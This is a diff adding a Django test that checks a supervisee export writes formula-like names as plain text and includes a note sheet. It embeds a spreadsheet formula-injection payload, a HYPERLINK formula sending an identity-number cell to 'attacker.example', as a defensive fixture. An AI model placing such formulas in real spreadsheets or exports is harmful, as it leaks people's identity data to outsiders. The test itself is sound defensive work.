@@ -108,3 +108,17 @@ def test_too_large_an_export_is_refused_with_a_message(client, login, world, set
     response = client.get(reverse("supervisees:export"), {"status": "pending_intake"}, follow=True)
     assert "缩小筛选范围" in response.content.decode()
     assert not AuditEntry.objects.filter(action=Action.EXPORT).exists()
+
+
+def test_a_name_written_as_a_formula_is_exported_as_text_with_a_note(client, login, world) -> None:  # type: ignore[no-untyped-def]
+    """Issue 16, high 3: `=HYPERLINK(…&C2…)` in a full-identity export would send the identity number away."""
+    attack = '=HYPERLINK("http://attacker.example/?"&C2,"点击")'
+    make_supervisee(world.office_a, name=attack, crime="@SUM(1)")
+    login(client, world.officer_a)
+    content = client.get(reverse("supervisees:export"), {"full_identity": "on"}).content
+    workbook = load_workbook(io.BytesIO(content))
+    cells = [cell for row in workbook.worksheets[0].iter_rows(min_row=2) for cell in row]
+    name = next(cell for cell in cells if cell.value == attack)
+    assert name.data_type == "s"  # text, not a formula
+    assert all(cell.data_type != "f" for cell in cells)
+    assert "=" in str(workbook["导出说明"]["A1"].value) and "公式" in str(workbook["导出说明"]["A1"].value)
